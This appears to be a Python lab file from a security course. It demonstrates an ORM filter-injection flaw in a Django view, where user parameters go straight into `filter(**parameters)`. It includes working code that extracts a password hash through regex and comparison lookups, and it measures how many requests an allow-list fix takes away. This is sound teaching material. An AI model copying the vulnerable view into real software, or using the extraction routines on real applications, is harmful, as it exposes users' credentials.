"""LAB: deliberately vulnerable. Read a password hash through `filter(**parameters)`, one answer at a time."""

import os
import re
import string
from collections.abc import Callable

if os.environ.get("NEXUS_LAB") != "1":
    raise ImportError("orm_leak is deliberately vulnerable. To run it: python run_lab.py labs/orm_leak.py")

import allowed_filters
import django
from django.db.models import QuerySet
from orm_models import HASH, Product, new_market

KNOWN = "pbkdf2_sha256$1000000$"  # what every hash of Django 5.2 begins with
ALPHABET = sorted(string.ascii_letters + string.digits + "+/=$")
TARGET = {"name": "mug"}  # one product, so one seller
Ask = Callable[[dict[str, str]], bool]


# fmt: off
# --8<-- [start:view]
def products(parameters: dict[str, str]) -> QuerySet:
    # ?name=mug&price__lte=2000
    return Product.objects.filter(**parameters)


# --8<-- [end:view]
# fmt: on
# fmt: off
# --8<-- [start:linear]
def linear(ask: Ask, length: int) -> str:
    """Try one character after the other."""
    found = ""
    while len(found) < length:
        for character in ALPHABET:
            known = re.escape(KNOWN + found + character)
            lookup = {"seller__password__regex": f"^{known}"}
            if ask(TARGET | lookup):
                found += character
                break
        else:
            break
    return found


# --8<-- [end:linear]
# fmt: on
# --8<-- [start:halving]
def halving(ask: Ask, length: int) -> str:
    """Ask whether the hash sorts after a text, and halve what is left of the alphabet."""
    found = ""
    while len(found) < length:
        low, high = -1, len(ALPHABET) - 1  # -1: nothing has answered yes
        while low < high:
            middle = (low + high + 1) // 2
            if ask(TARGET | {"seller__password__gte": KNOWN + found + ALPHABET[middle]}):
                low = middle
            else:
                high = middle - 1
        if low < 0:
            break
        found += ALPHABET[low]
    return found


# --8<-- [end:halving]
class Requests:
    """The attacker's side of a web view: a dictionary goes in, "found or not" comes out."""

    def __init__(self, view: Callable[[dict[str, str]], QuerySet[Product]]) -> None:
        self.view = view
        self.sent = 0

    def ask(self, parameters: dict[str, str]) -> bool:
        self.sent += 1
        try:
            return self.view(parameters).exists()
        except allowed_filters.UnknownFilter:  # the answer is 400
            return False


def attack(view, method, length: int) -> tuple[int, int]:
    """How many characters came out, and how many requests that took."""
    requests = Requests(view)
    found = method(requests.ask, length)
    assert HASH.startswith(KNOWN + found)
    return len(found), requests.sent


if __name__ == "__main__":
    new_market()
    print(f"Django {'.'.join(django.__version__.split('.')[:2])}")
    rest = len(HASH) - len(KNOWN)
    for name, view in (("filter(**parameters)", products), ("allow-list", allowed_filters.products)):
        print(name)
        for way, method, length in (
            ("22 characters, one by one", linear, 22),
            ("22 characters, halving", halving, 22),
            (f"all {rest} characters, halving", halving, rest),
        ):
            characters, requests = attack(view, method, length)
            print(f"  {way:28} {characters:3} read in {requests:5,} requests")
